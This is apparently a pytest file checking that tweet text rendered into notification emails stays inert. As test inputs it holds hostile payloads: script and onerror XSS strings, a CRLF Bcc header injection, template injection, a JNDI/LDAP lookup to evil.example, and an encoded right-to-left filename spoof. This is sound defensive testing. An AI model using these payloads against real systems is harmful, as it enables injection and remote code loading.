"""Email rendering: tweet text is untrusted and stays inert; the link and text are there."""

from __future__ import annotations

from email import message_from_bytes, policy
from email.message import EmailMessage, Message

import pytest
from aiosmtplib.email import flatten_message

from switchboard.notify.config import EmailConfig, Subscription
from switchboard.notify.mail import check_templates, message_id, render_email
from switchboard.notify.service import delivery_id, matching_subscriptions
from switchboard.shared.settings import ConfigError
from tests.factories import HOSTILE, INVISIBLE, routed_from
from tests.factories import a_classified_tweet as classified

SUPPORT = Subscription(
    name="support",
    departments=["customer_service"],
    urgencies=["high"],
    to=["a@example.com", "b@example.com"],
)


def received(message: Message) -> EmailMessage:
    """``message`` as a mail client reads it: the bytes the SMTP client sends, parsed."""
    parsed = message_from_bytes(flatten_message(message), policy=policy.default)
    assert isinstance(parsed, EmailMessage)
    return parsed


def routed_with_text(text: str):
    event = classified("customer_service", 0.9, "high")
    event = event.model_copy(update={"tweet": event.tweet.model_copy(update={"text": text})})
    return routed_from(event)


def test_the_email_has_the_text_the_link_and_both_bodies():
    routed = routed_with_text("my bag is lost, booking QX7H2P")
    message = received(render_email(routed, SUPPORT, EmailConfig(), delivery_id(routed, SUPPORT)))
    text = message.get_body(("plain",)).get_content()
    html = message.get_body(("html",)).get_content()
    assert "my bag is lost, booking QX7H2P" in text and routed.tweet.url in text
    assert "my bag is lost" in html and f'href="{routed.tweet.url}"' in html
    assert message["To"] == "a@example.com, b@example.com"
    assert message["X-Switchboard-Delivery-Id"] == "5:email:support"


def test_non_ascii_names_and_text_arrive_intact_in_7_bit_headers():
    routed = routed_with_text("où est ma valise? 行李 😡")
    options = EmailConfig(sender="Équipe Switchboard <switchboard@example.com>")
    sent = flatten_message(render_email(routed, SUPPORT, options, "d"))
    headers = sent.split(b"\r\n\r\n")[0]
    assert headers.isascii()  # RFC 2047 encoded words, any SMTP server takes them
    message = received(render_email(routed, SUPPORT, options, "d"))
    assert "où est ma valise? 行李 😡" in message["Subject"]
    assert message["From"].addresses[0].display_name == "Équipe Switchboard"
    assert message["From"].addresses[0].addr_spec == "switchboard@example.com"
    assert "où est ma valise? 行李 😡" in message.get_body(("plain",)).get_content()


def test_html_and_header_injection_stay_inert():
    routed = routed_with_text("<script>alert(1)</script>\r\nBcc: victim@example.com {{ 7*7 }}")
    message = received(render_email(routed, SUPPORT, EmailConfig(), "d"))
    html = message.get_body(("html",)).get_content()
    assert "<script>" not in html and "&lt;script&gt;" in html
    assert "{{ 7*7 }}" in message.get_body(("plain",)).get_content()  # not evaluated
    assert message["Bcc"] is None
    assert "\n" not in message["Subject"] and "\r" not in message["Subject"]


def test_an_encoded_word_in_the_tweet_reaches_the_subject_as_its_own_text():
    """``=?utf-8?b?4oCu?=`` is what a right-to-left override looks like encoded: written by
    the tweet's author, a mail client reads it as the text written, not as the override."""
    routed = routed_with_text("refund =?utf-8?b?4oCu?=gpj.exe please")
    message = received(render_email(routed, SUPPORT, EmailConfig(), "d"))
    assert "\u202e" not in message["Subject"]
    assert "=?utf-8?b?4oCu?=gpj.exe" in message["Subject"]


def test_subscriptions_match_department_and_urgency():
    routed = routed_with_text("x")
    other = Subscription(name="legal", departments=["legal"], to=["l@example.com"])
    low_only = Subscription(
        name="digest", departments=["customer_service"], urgencies=["low"], to=["d@example.com"]
    )
    assert matching_subscriptions(routed, [SUPPORT, other, low_only]) == [SUPPORT]


def test_a_templates_folder_overrides_and_adds_templates(tmp_path):
    (tmp_path / "legal.txt.j2").write_text("LEGAL: {{ tweet.text }}\n")
    (tmp_path / "legal.html.j2").write_text("<p>{{ tweet.text }}</p>\n")
    options = EmailConfig(templates_dir=tmp_path)
    legal = SUPPORT.model_copy(update={"template": "legal"})
    routed = routed_with_text("<b>sue</b>")
    message = received(render_email(routed, legal, options, "5:email:support"))
    assert message.get_body(("plain",)).get_content() == "LEGAL: <b>sue</b>\n"
    assert "&lt;b&gt;sue&lt;/b&gt;" in message.get_body(("html",)).get_content()  # autoescaped


def test_a_missing_template_fails_at_start_naming_the_subscription(tmp_path):
    missing = SUPPORT.model_copy(update={"template": "nope"})
    with pytest.raises(ConfigError, match=r"notify.subscriptions\[0\].template: no template nope"):
        check_templates(EmailConfig(templates_dir=tmp_path), [missing])


def test_a_digest_template_that_does_not_parse_fails_at_start_naming_the_subscription(tmp_path):
    (tmp_path / "digest.html.j2").write_text("<ul>{% for t in tweets %}<li>{{ t }}</ul>\n")
    digesting = SUPPORT.model_copy(update={"digest_minutes": 60})
    with pytest.raises(ConfigError, match=r"subscriptions\[0\].digest_minutes: .*digest.html.j2"):
        check_templates(EmailConfig(templates_dir=tmp_path), [digesting])
    check_templates(EmailConfig(templates_dir=tmp_path), [SUPPORT])  # no digest: not read


def test_a_templates_folder_that_is_not_there_fails_at_start_naming_its_key(tmp_path):
    """Else its templates would never be used, the built-in ones standing in silently."""
    with pytest.raises(ConfigError, match=r"notify.email.templates_dir: .*templatez is not a"):
        check_templates(EmailConfig(templates_dir=tmp_path / "templatez"), [SUPPORT])


def test_hostile_text_is_inert_in_every_part_of_the_email():
    routed = routed_with_text(HOSTILE)
    message = received(render_email(routed, SUPPORT, EmailConfig(), "d"))
    html = message.get_body(("html",)).get_content()
    text = message.get_body(("plain",)).get_content()
    assert "<script" not in html and "<img" not in html and "&lt;img src=x" in html
    assert "{{ 7*7 }}" in text and "49" not in text  # a value, never template source
    assert "{% raw %}" in text and "${jndi:ldap://evil.example/a}" in text
    assert "\uff20channel" in text and "xn--pypal-4ve.com" in text and "a" * 300 not in text
    assert not any(ch in part for ch in INVISIBLE for part in (html, text, message["Subject"]))
    assert set(message.keys()) == {
        "From", "To", "Subject", "Message-ID", "X-Switchboard-Tweet-Id",
        "X-Switchboard-Delivery-Id", "MIME-Version", "Content-Type",
    }  # fmt: skip
    assert len(message["Subject"]) <= 200


def test_a_digest_shows_tweets_inert_too():
    from switchboard.notify.mail import render_digest

    routed = routed_with_text("<img src=x onerror=alert(1)> @here")
    message = received(render_digest([routed], 3, SUPPORT, EmailConfig(), "digest:1"))
    html = message.get_body(("html",)).get_content()
    assert "<img" not in html and "\uff20here" in html
    text = message.get_body(("plain",)).get_content()  # two more counted than listed
    assert "3 tweets for" in text and "and 2 more" in text and "and 2 more" in html


def test_the_message_id_is_the_same_each_time_a_delivery_is_sent():
    first = message_id("1861000000000004096:email:support-leads")
    assert first == message_id("1861000000000004096:email:support-leads")
    assert first == "<1861000000000004096.email.support-leads@switchboard>"
    assert message_id("1:email:other") != first


def test_emails_and_digests_name_the_department_as_the_company_does():
    """The YAML file's departments give each its display name: emails show it, not the code."""
    from switchboard.notify.mail import render_digest

    names = {"customer_service": "Kundenservice"}
    routed = routed_with_text("my parcel never came")
    message = received(render_email(routed, SUPPORT, EmailConfig(), "d", names))
    assert "HIGH Kundenservice: @" in message["Subject"]
    for part in ("plain", "html"):
        shown = message.get_body((part,)).get_content()
        assert "Kundenservice" in shown and "customer_service" not in shown
    digest = received(render_digest([routed], 1, SUPPORT, EmailConfig(), "digest:1", names))
    assert "Kundenservice: @" in digest.get_body(("plain",)).get_content()
